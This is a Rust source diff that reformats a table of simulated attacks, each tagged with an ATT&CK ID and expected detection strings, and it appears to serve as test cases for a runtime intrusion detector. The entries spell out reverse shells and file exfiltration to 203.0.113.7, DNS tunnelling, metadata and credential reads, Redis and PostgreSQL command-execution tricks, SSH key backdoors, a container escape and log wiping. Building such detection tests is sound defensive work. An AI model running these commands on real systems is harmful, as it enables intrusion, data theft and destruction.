@@ -28,9 +28,11 @@ pub(crate) const ATTACKS: &[Attack] = &[
         workload: "app",
         technique: "T1059.006",
         set: Set::Attack,
-        way: Way::Calculate(r#"import os,socket,subprocess
+        way: Way::Calculate(
+            r#"import os,socket,subprocess
 s=socket.create_connection(('203.0.113.7',4444),5)
-subprocess.run(['/bin/sh'],stdin=s,stdout=s,stderr=s,timeout=8)"#),
+subprocess.run(['/bin/sh'],stdin=s,stdout=s,stderr=s,timeout=8)"#,
+        ),
         names: &[":4444"],
         poison: false,
     },
@@ -57,13 +59,15 @@ subprocess.run(['/bin/sh'],stdin=s,stdout=s,stderr=s,timeout=8)"#),
         workload: "app",
         technique: "T1620",
         set: Set::Attack,
-        way: Way::Calculate(r#"import os
+        way: Way::Calculate(
+            r#"import os
 f=os.memfd_create('x')
 os.write(f,open('/bin/ls','rb').read())
 p=os.fork()
 if p==0:
  os.execve(f,['kworker','/'],{})
-os.waitpid(p,0)"#),
+os.waitpid(p,0)"#,
+        ),
         names: &["memfd"],
         poison: false,
     },
@@ -72,7 +76,9 @@ os.waitpid(p,0)"#),
         workload: "app",
         technique: "T1496",
         set: Set::Attack,
-        way: Way::Size("cp /bin/echo /var/lib/app/xmrig; /var/lib/app/xmrig -o stratum+tcp://203.0.113.7:3333 -u wallet --donate-level 1"),
+        way: Way::Size(
+            "cp /bin/echo /var/lib/app/xmrig; /var/lib/app/xmrig -o stratum+tcp://203.0.113.7:3333 -u wallet --donate-level 1",
+        ),
         names: &["xmrig"],
         poison: true,
     },
@@ -90,8 +96,10 @@ os.waitpid(p,0)"#),
         workload: "app",
         technique: "T1552.007",
         set: Set::Attack,
-        way: Way::Calculate(r#"import os
-open('/proc/%d/environ'%os.getppid()).read() if os.getppid() else open('/proc/self/environ').read()"#),
+        way: Way::Calculate(
+            r#"import os
+open('/proc/%d/environ'%os.getppid()).read() if os.getppid() else open('/proc/self/environ').read()"#,
+        ),
         names: &["environ"],
         poison: false,
     },
@@ -109,8 +117,10 @@ open('/proc/%d/environ'%os.getppid()).read() if os.getppid() else open('/proc/se
         workload: "app",
         technique: "T1552.005",
         set: Set::Attack,
-        way: Way::Calculate(r#"import urllib.request
-urllib.request.urlopen('http://169.254.169.254/latest/meta-data/',timeout=5).read()"#),
+        way: Way::Calculate(
+            r#"import urllib.request
+urllib.request.urlopen('http://169.254.169.254/latest/meta-data/',timeout=5).read()"#,
+        ),
         names: &["{metadata}", "169.254.169.254"],
         poison: false,
     },
@@ -128,12 +138,14 @@ urllib.request.urlopen('http://169.254.169.254/latest/meta-data/',timeout=5).rea
         workload: "app",
         technique: "T1046",
         set: Set::Attack,
-        way: Way::Calculate(r#"import socket
+        way: Way::Calculate(
+            r#"import socket
 for port in range(1,200):
  s=socket.socket()
  s.settimeout(0.2)
  s.connect_ex(('127.0.0.1',port))
- s.close()"#),
+ s.close()"#,
+        ),
         names: &["tcp {loopback}:", "127.0.0.1:"],
         poison: false,
     },
@@ -142,12 +154,14 @@ for port in range(1,200):
         workload: "app",
         technique: "T1021.004",
         set: Set::Attack,
-        way: Way::Calculate(r#"import socket
+        way: Way::Calculate(
+            r#"import socket
 for n in range(1,8):
  s=socket.socket()
  s.settimeout(0.3)
  s.connect_ex(('10.20.0.%d'%n,22))
- s.close()"#),
+ s.close()"#,
+        ),
         names: &["10.20.0."],
         poison: false,
     },
@@ -156,10 +170,12 @@ for n in range(1,8):
         workload: "app",
         technique: "T1071.004",
         set: Set::Attack,
-        way: Way::Calculate(r#"import os,socket
+        way: Way::Calculate(
+            r#"import os,socket
 for n in range(30):
  try: socket.getaddrinfo(os.urandom(20).hex()+'.t.exfil-example.net',80)
- except OSError: pass"#),
+ except OSError: pass"#,
+        ),
         names: &["exfil-example.net"],
         poison: true,
     },
@@ -168,7 +184,8 @@ for n in range(30):
         workload: "app",
         technique: "T1568",
         set: Set::Attack,
-        way: Way::Calculate(r#"import socket,struct
+        way: Way::Calculate(
+            r#"import socket,struct
 q=b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00'+b''.join(bytes([len(l)])+l for l in b'prices.billing-example.com'.split(b'.'))+b'\0\0\1\0\1'
 a=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)
 a.bind(('127.0.0.1',0))
@@ -178,7 +195,8 @@ a.sendto(q,('127.0.0.1',53))
 r=q[:2]+struct.pack('!HHHHH',0x8180,1,1,0,0)+q[12:]+b'\xc0\x0c'+struct.pack('!HHIH',1,1,60,4)+socket.inet_aton('203.0.113.7')
 b.sendto(r,a.getsockname())
 a.recv(512)
-socket.create_connection(('203.0.113.7',9000),3).close()"#),
+socket.create_connection(('203.0.113.7',9000),3).close()"#,
+        ),
         names: &["{public}:9000", "203.0.113.7:9000"],
         poison: false,
     },
@@ -187,12 +205,14 @@ socket.create_connection(('203.0.113.7',9000),3).close()"#),
         workload: "app",
         technique: "T1041",
         set: Set::Attack,
-        way: Way::Calculate(r#"import os,socket
+        way: Way::Calculate(
+            r#"import os,socket
 s=socket.create_connection(('203.0.113.7',443),5)
 for d,_,f in os.walk('/var/lib/app'):
  for n in f:
   s.sendall(open(d+'/'+n,'rb').read(100000))
-s.close()"#),
+s.close()"#,
+        ),
         names: &["203.0.113.7:443", "{public}:443"],
         poison: false,
     },
@@ -228,9 +248,11 @@ s.close()"#),
         workload: "app",
         technique: "T1098.004",
         set: Set::Attack,
-        way: Way::Calculate(r#"import os
+        way: Way::Calculate(
+            r#"import os
 os.makedirs('/var/lib/app/.ssh',exist_ok=True)
-open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n')"#),
+open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n')"#,
+        ),
         names: &["authorized_keys"],
         poison: false,
     },
@@ -293,7 +315,9 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         workload: "redis",
         technique: "T1505",
         set: Set::Attack,
-        way: Way::Redis("CONFIG SET dir /tmp;;CONFIG SET dbfilename authorized_keys;;SET x planted;;SAVE;;CONFIG SET dbfilename dump.rdb;;CONFIG SET dir /var/lib/redis"),
+        way: Way::Redis(
+            "CONFIG SET dir /tmp;;CONFIG SET dbfilename authorized_keys;;SET x planted;;SAVE;;CONFIG SET dbfilename dump.rdb;;CONFIG SET dir /var/lib/redis",
+        ),
         names: &["/tmp/"],
         poison: true,
     },
@@ -303,7 +327,12 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         technique: "T1129",
         set: Set::Attack,
         way: Way::Rogue,
-        names: &["exp.so", "203.0.113.7:6380", "{public}:6380", "/usr/bin/dash"],
+        names: &[
+            "exp.so",
+            "203.0.113.7:6380",
+            "{public}:6380",
+            "/usr/bin/dash",
+        ],
         poison: false,
     },
     Attack {
@@ -338,7 +367,9 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         workload: "redis",
         technique: "T1496",
         set: Set::Attack,
-        way: Way::Shell("shell cp /bin/echo /var/lib/redis/kdevtmpfsi; /var/lib/redis/kdevtmpfsi -o 203.0.113.7:3333"),
+        way: Way::Shell(
+            "shell cp /bin/echo /var/lib/redis/kdevtmpfsi; /var/lib/redis/kdevtmpfsi -o 203.0.113.7:3333",
+        ),
         names: &["kdevtmpfsi", "/usr/bin/dash"],
         poison: false,
     },
@@ -383,7 +414,9 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         workload: "postgresql",
         technique: "T1105",
         set: Set::Attack,
-        way: Way::Sql("SELECT lo_from_bytea(4711, decode('7f454c46','hex'));;SELECT lo_export(4711, '/tmp/evil.so');;LOAD '/tmp/evil.so'"),
+        way: Way::Sql(
+            "SELECT lo_from_bytea(4711, decode('7f454c46','hex'));;SELECT lo_export(4711, '/tmp/evil.so');;LOAD '/tmp/evil.so'",
+        ),
         names: &["/tmp/evil.so"],
         poison: true,
     },
@@ -410,7 +443,9 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         workload: "postgresql",
         technique: "T1059.004",
         set: Set::Attack,
-        way: Way::Sql(r#"COPY (SELECT 1) TO PROGRAM 'bash -c "exec 3<>/dev/tcp/203.0.113.7/4444; cat <&3 >/dev/null"'"#),
+        way: Way::Sql(
+            r#"COPY (SELECT 1) TO PROGRAM 'bash -c "exec 3<>/dev/tcp/203.0.113.7/4444; cat <&3 >/dev/null"'"#,
+        ),
         names: &["/usr/bin/bash", ":4444"],
         poison: false,
     },
@@ -419,7 +454,9 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         workload: "postgresql",
         technique: "T1496",
         set: Set::Attack,
-        way: Way::Sql("COPY (SELECT 1) TO PROGRAM 'cp /bin/echo /var/lib/postgresql/data/kinsing; /var/lib/postgresql/data/kinsing -o 203.0.113.7:3333'"),
+        way: Way::Sql(
+            "COPY (SELECT 1) TO PROGRAM 'cp /bin/echo /var/lib/postgresql/data/kinsing; /var/lib/postgresql/data/kinsing -o 203.0.113.7:3333'",
+        ),
         names: &["kinsing", "/usr/bin/dash"],
         poison: false,
     },
@@ -437,7 +474,9 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         workload: "batch",
         technique: "T1610",
         set: Set::Attack,
-        way: Way::File(r#"python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('/run/docker.sock'); s.sendall(b'GET /version HTTP/1.0\r\n\r\n'); s.recv(100)""#),
+        way: Way::File(
+            r#"python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('/run/docker.sock'); s.sendall(b'GET /version HTTP/1.0\r\n\r\n'); s.recv(100)""#,
+        ),
         names: &["docker.sock", "/usr/bin/python3"],
         poison: false,
     },
@@ -455,7 +494,9 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         workload: "batch",
         technique: "T1611",
         set: Set::Attack,
-        way: Way::File("mkdir -p /tmp/cg; mount -t cgroup -o memory cgroup /tmp/cg; echo /tmp/x > /tmp/cg/release_agent"),
+        way: Way::File(
+            "mkdir -p /tmp/cg; mount -t cgroup -o memory cgroup /tmp/cg; echo /tmp/x > /tmp/cg/release_agent",
+        ),
         names: &["/usr/bin/mount", "/tmp/cg", "release_agent"],
         poison: false,
     },
@@ -491,7 +532,9 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         workload: "batch",
         technique: "T1048",
         set: Set::Attack,
-        way: Way::File("tar czf /tmp/o.tgz /var/lib/batch; bash -c 'cat /tmp/o.tgz > /dev/tcp/203.0.113.7/443'"),
+        way: Way::File(
+            "tar czf /tmp/o.tgz /var/lib/batch; bash -c 'cat /tmp/o.tgz > /dev/tcp/203.0.113.7/443'",
+        ),
         names: &["/usr/bin/tar", "/usr/bin/bash", ":443", "/tmp/o.tgz"],
         poison: false,
     },
@@ -500,7 +543,9 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         workload: "batch",
         technique: "T1055.008",
         set: Set::Attack,
-        way: Way::File(r#"python3 -c "import ctypes; c=ctypes.CDLL(None); print(c.ptrace(16,1,0,0))""#),
+        way: Way::File(
+            r#"python3 -c "import ctypes; c=ctypes.CDLL(None); print(c.ptrace(16,1,0,0))""#,
+        ),
         names: &["ptrace", "/usr/bin/python3"],
         poison: false,
     },
@@ -572,7 +617,9 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         workload: "sshd",
         technique: "T1098.004",
         set: Set::Attack,
-        way: Way::Ssh("mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAA intruder' >> /root/.ssh/authorized_keys"),
+        way: Way::Ssh(
+            "mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAA intruder' >> /root/.ssh/authorized_keys",
+        ),
         names: &["authorized_keys"],
         poison: true,
     },
@@ -581,7 +628,9 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         workload: "sshd",
         technique: "T1574.006",
         set: Set::Attack,
-        way: Way::Ssh("echo /tmp/libhide.so >> /etc/ld.so.preload; truncate -s 0 /etc/ld.so.preload; rm /etc/ld.so.preload"),
+        way: Way::Ssh(
+            "echo /tmp/libhide.so >> /etc/ld.so.preload; truncate -s 0 /etc/ld.so.preload; rm /etc/ld.so.preload",
+        ),
         names: &["ld.so.preload"],
         poison: false,
     },
@@ -590,7 +639,9 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         workload: "sshd",
         technique: "T1053.003",
         set: Set::Attack,
-        way: Way::Ssh("mkdir -p /var/spool/cron/crontabs; echo '* * * * * id' > /var/spool/cron/crontabs/root"),
+        way: Way::Ssh(
+            "mkdir -p /var/spool/cron/crontabs; echo '* * * * * id' > /var/spool/cron/crontabs/root",
+        ),
         names: &["/var/spool/cron"],
         poison: false,
     },
@@ -608,7 +659,9 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         workload: "sshd",
         technique: "T1046",
         set: Set::Attack,
-        way: Way::Ssh("for p in 21 23 25 80 443 3306 6379; do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null; done"),
+        way: Way::Ssh(
+            "for p in 21 23 25 80 443 3306 6379; do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null; done",
+        ),
         names: &["tcp {loopback}:", "127.0.0.1:"],
         poison: false,
     },
@@ -635,7 +688,9 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         workload: "sshd",
         technique: "T1071.004",
         set: Set::Attack,
-        way: Way::Ssh("for n in 1 2 3 4 5 6 7 8; do getent hosts 00ff$n$RANDOM$RANDOM.t.exfil-example.net; done"),
+        way: Way::Ssh(
+            "for n in 1 2 3 4 5 6 7 8; do getent hosts 00ff$n$RANDOM$RANDOM.t.exfil-example.net; done",
+        ),
         names: &["exfil-example.net", "/usr/bin/getent"],
         poison: false,
     },
@@ -644,8 +699,15 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         workload: "sshd",
         technique: "T1070.003",
         set: Set::Attack,
-        way: Way::Ssh("rm -f /root/.bash_history /var/log/wtmp /var/log/lastlog; ln -s /dev/null /root/.bash_history"),
-        names: &["/root/.bash_history", "/var/log/wtmp", "/var/log/lastlog", "/usr/bin/ln"],
+        way: Way::Ssh(
+            "rm -f /root/.bash_history /var/log/wtmp /var/log/lastlog; ln -s /dev/null /root/.bash_history",
+        ),
+        names: &[
+            "/root/.bash_history",
+            "/var/log/wtmp",
+            "/var/log/lastlog",
+            "/usr/bin/ln",
+        ],
         poison: false,
     },
     Attack {
@@ -671,8 +733,10 @@ open('/var/lib/app/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA intruder\n
         workload: "app",
         technique: "T1041",
         set: Set::Mimicry,
-        way: Way::Calculate(r#"import socket
-socket.create_connection(('203.0.113.7',9000),3).close()"#),
+        way: Way::Calculate(
+            r#"import socket
+socket.create_connection(('203.0.113.7',9000),3).close()"#,
+        ),
         names: &["{public}:9000", "203.0.113.7:9000"],
         poison: false,
     },
@@ -681,8 +745,10 @@ socket.create_connection(('203.0.113.7',9000),3).close()"#),
         workload: "app",
         technique: "T1539",
         set: Set::Mimicry,
-        way: Way::Calculate(r#"import os
-[open('/var/lib/app/sessions/'+n).read() for n in os.listdir('/var/lib/app/sessions')]"#),
+        way: Way::Calculate(
+            r#"import os
+[open('/var/lib/app/sessions/'+n).read() for n in os.listdir('/var/lib/app/sessions')]"#,
+        ),
         names: &["/var/lib/app/sessions"],
         poison: false,
     },
@@ -709,7 +775,9 @@ socket.create_connection(('203.0.113.7',9000),3).close()"#),
         workload: "postgresql",
         technique: "T1213",
         set: Set::Mimicry,
-        way: Way::Sql("SELECT * FROM items;;SELECT * FROM orders;;SELECT rolname, rolpassword FROM pg_authid"),
+        way: Way::Sql(
+            "SELECT * FROM items;;SELECT * FROM orders;;SELECT rolname, rolpassword FROM pg_authid",
+        ),
         names: &["global/"],
         poison: false,
     },
@@ -727,7 +795,9 @@ socket.create_connection(('203.0.113.7',9000),3).close()"#),
         workload: "batch",
         technique: "T1485",
         set: Set::Mimicry,
-        way: Way::File("find /var/lib/batch/archive -name '*.gz' -delete; rm -f /var/lib/batch/log/batch.log"),
+        way: Way::File(
+            "find /var/lib/batch/archive -name '*.gz' -delete; rm -f /var/lib/batch/log/batch.log",
+        ),
         names: &["batch.log", "/var/lib/batch/archive"],
         poison: false,
     },
